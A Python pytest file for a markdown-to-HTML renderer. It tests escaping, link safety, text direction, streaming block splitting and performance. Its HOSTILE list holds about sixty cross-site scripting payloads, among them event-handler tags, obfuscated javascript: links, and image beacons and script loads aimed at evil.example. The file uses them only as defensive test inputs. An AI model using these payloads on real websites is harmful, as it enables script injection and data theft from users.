"""Whatever anybody writes comes out as HTML that runs nothing, fetches nothing and looks as it was meant."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from npc_lab.rendering import escaped, html_table, split_finished, to_html

pytestmark = pytest.mark.once

TAGS = {"p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "code", "ul", "ol", "li"}
TAGS |= {"a", "em", "strong", "s", "table", "thead", "tbody", "tr", "th", "td"}
ATTRIBUTES = {"a": {"href", "title", "rel", "target"}, "ol": {"start"}}

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<style>*{background:url(//evil.example)}</style>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button><input autofocus onfocus=alert(1)>",
    "<object data=x></object><embed src=x><link rel=stylesheet href=x>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](&#0000106avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](\\javascript:alert(1))",
    "[a](%6aavascript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:image/svg+xml;base64,PHN2Zz4=)",
    "[a](vbscript:msgbox(1))",
    "[a](file:///etc/passwd)",
    "[a](blob:https://x.example/1)",
    "[a](/api/kernels)",
    "[a](//evil.example)",
    "[a](\\\\evil.example)",
    "[a](?q=1)",
    "[a](http://x.example 'q\" onmouseover=\"alert(1)')",
    '[a](http://x.example" onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<http://x.example/"onmouseover=alert(1)>',
    "![](https://evil.example/?q=secret)",
    "![x][y]\n\n[y]: https://evil.example/?q=secret",
    "[![x](https://evil.example/1.png)](https://evil.example)",
    "[a]\n\n[a]: javascript:alert(1)",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "|<img src=x onerror=alert(1)>|[a](javascript:alert(1))|\n|:-:|-:|\n|<svg onload=alert(1)>|![](//evil)|",
    "```<script>\n<img src=x onerror=alert(1)>",
    '```html" onmouseover="alert(1)\n</code></pre><script>alert(1)</script>',
    "`<script>alert(1)</script>`",
    "> <script>\n> - <img src=x onerror=alert(1)>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr\u202eipt>alert(1)</script>",
    "\ud800<img src=x onerror=alert(1)>\udfff",
    "*<b>*</b><i onclick=alert(1)>",
]
PIECES = [
    *HOSTILE, "[", "](", ")", "<", ">", "\"", "'", "`", "```\n", "\n", "\n\n", "> ", "- ", "|", "\n|-|-|\n",
    "*", "~~", "\\", "&", "javascript:", "http://", " onerror=alert(1) ", "<a href=",
    "\x00", "\ud83d", "\ude00",
]  # fmt: skip


class _Inspector(HTMLParser):
    """Fails at whatever is not on this test's own lists."""

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        for name, value in attributes:
            assert (name, value) == ("dir", "auto") or name in ATTRIBUTES.get(tag, set())
            assert name != "href" or re.match(r"(https?|mailto):", value or "", re.IGNORECASE)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    handle_decl = unknown_decl = handle_pi = handle_comment


def inspect(page: str) -> None:
    inspector = _Inspector(convert_charrefs=True)
    inspector.feed(page)
    inspector.close()


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_through(text: str) -> None:
    inspect(to_html(text))
    inspect(f"<p>{escaped(text)}</p><a title='{escaped(text)}'>x</a>")


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=8).map("".join))
def test_nothing_hostile_comes_through_in_any_mixture(text: str) -> None:
    inspect(to_html(text))


def test_markdown_looks_as_it_was_meant() -> None:
    assert to_html("I am *Guy*,\n**knight** ~~page~~.") == (
        '<p dir="auto">I am <em>Guy</em>,<br>\n<strong>knight</strong> <s>page</s>.</p>\n'
    )
    assert "<td>wool</td>" in to_html("|ware|price|\n|-|-|\n|wool|2|")
    assert '<ol start="3" dir="auto">' in to_html("3. three")
    assert to_html("```py\nif a < b:\n```") == "<pre><code>if a &lt; b:\n</code></pre>\n"


def test_each_block_runs_as_its_letters_do() -> None:
    page = to_html("שלום, מה שלומך?\n\n- أهلا\n- world\n\n> hi\n>\n> there\n\n# Title")
    assert re.findall(r"<(\w+) dir=.auto.", page) == ["p", "ul", "blockquote", "h1"]
    assert "dir='auto'" in html_table((), [("שלום", "2")])


def test_a_link_opens_in_a_new_tab_that_knows_nothing_of_this_one() -> None:
    page = to_html('[York](https://x.example/a?b=1&c=2 "a town")')
    assert 'href="https://x.example/a?b=1&amp;c=2"' in page
    assert 'title="a town"' in page
    assert 'target="_blank"' in page
    assert 'rel="noopener noreferrer"' in page
    assert "mailto:a@b.example" in to_html("<a@b.example>")


def test_tags_and_pictures_show_as_they_were_written() -> None:
    assert to_html("<b>hi</b>") == '<p dir="auto">&lt;b&gt;hi&lt;/b&gt;</p>\n'
    assert re.fullmatch(r"<p [^>]*>!<a [^>]*>a map</a></p>\n", to_html("![a map](https://x.example/y.png)"))


def test_a_script_s_line_does_not_vanish() -> None:
    assert "[Guard]: Halt!" in to_html("[Guard]: Halt!")


@pytest.mark.parametrize("deep", ["> " * 30 + "words", "- " * 29 + "words", "1. " * 30 + "words"])
def test_what_is_nested_too_deeply_is_shown_all_the_same(deep: str) -> None:
    assert "words" in to_html(deep)


def test_too_long_a_text_is_shown_as_it_was_written() -> None:
    page = to_html("*a* <b>\nb\n\n\n" + "word " * 20_000)
    inspect(page)
    assert page.startswith('<p dir="auto">*a* &lt;b&gt;<br>\nb</p>\n<p dir="auto">word word')


WIDE_TABLE = "|" + "a|" * 256 + "\n|" + "-|" * 256 + "\n" + "|\n" * 256 + "\n"
WORST = [">", "[", "*[", "- a\n", "a|b\n-|-\n", "*a* ", "\n", WIDE_TABLE]


@pytest.mark.long
@pytest.mark.parametrize("piece", WORST)
@pytest.mark.parametrize("size", [20_000, 100_000])
def test_no_text_takes_long(piece: str, size: int) -> None:
    text = (piece * size)[:size]
    started = time.process_time()
    page = to_html(text)
    split_finished(text)
    assert time.process_time() - started < 3  # it takes a third of a second; a busy machine is slower
    assert len(page) < 20 * size


MARKDOWN = [
    "a", "b c", "\n", "\n\n", "- ", "* ", "***", "---", "1. ", "2", "> ", "    ", " ", "```\n", "~~~", "# ",
    "|", "a|b\n", "-|-\n", "=", "[a]: b\n", "[a]", "**", "`", "\\", "\t", "\r\n", "\x00", "\ud83d",
    "\ude00", "\u2028",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(MARKDOWN), max_size=14).map("".join))
@example("a\n***b\n\n***\nc")
@example("1. a\n\n2. b\n\nc\n\nd")
@example("a\n|-b\n---a")
@example("- \na\n#a\n\nb")
@example("- a\n\n- - -\n- - -x")
def test_growing_blocks_look_like_the_whole_text(text: str) -> None:
    """Character by character: what is finished only grows, and rendering it once is enough."""
    finished, rest, page = "", "", ""
    for character in text:
        block, rest = split_finished(rest + character)
        finished += block
        page += to_html(block)
        assert split_finished(finished + rest) == (finished, rest)
    assert finished + rest == text
    assert page + to_html(rest) == to_html(text)


def test_paragraphs_are_finished_as_soon_as_the_next_begins() -> None:
    assert split_finished("one\n\ntwo\n\nth") == ("one\n\ntwo\n\n", "th")
    assert split_finished("one\n\n") == ("", "one\n\n")
    assert split_finished("") == ("", "")


def test_an_open_fence_is_not_finished() -> None:
    fence = "```\ncode\n\n# no heading\n\nmore\n"
    assert split_finished("one\n\n" + fence) == ("one\n\n", fence)


def test_a_name_is_shown_as_it_was_written() -> None:
    assert escaped('<b>"O\'Neill" & \x1b[2J\ud800') == "&lt;b&gt;&quot;O&#x27;Neill&quot; &amp; [2J\ufffd"


def test_a_table_holds_its_cells_as_they_are_given() -> None:
    page = html_table(("ware", "price"), [("wool", "<b>2</b>"), (escaped("<i>"), "3")])
    assert re.sub(" (dir='auto' )?style='text-align:(left|start)'", "", page) == (
        "<table><tr><th>ware</th><th>price</th></tr>"
        "<tr><td>wool</td><td><b>2</b></td></tr><tr><td>&lt;i&gt;</td><td>3</td></tr></table>"
    )


def test_a_table_without_titles_has_no_row_for_them() -> None:
    assert html_table((), [("wool", "2")]).count("<tr>") == 1


def test_a_table_with_widths_fills_the_page() -> None:
    page = html_table(("ware", "price"), [("wool", "2")], widths=(70, 30))
    assert page.startswith("<table style='width:100%;table-layout:fixed;overflow-wrap:anywhere'>")
    assert re.findall(r"width:(\d+)%'>(\w+)<", page) == [("70", "ware"), ("30", "price")]
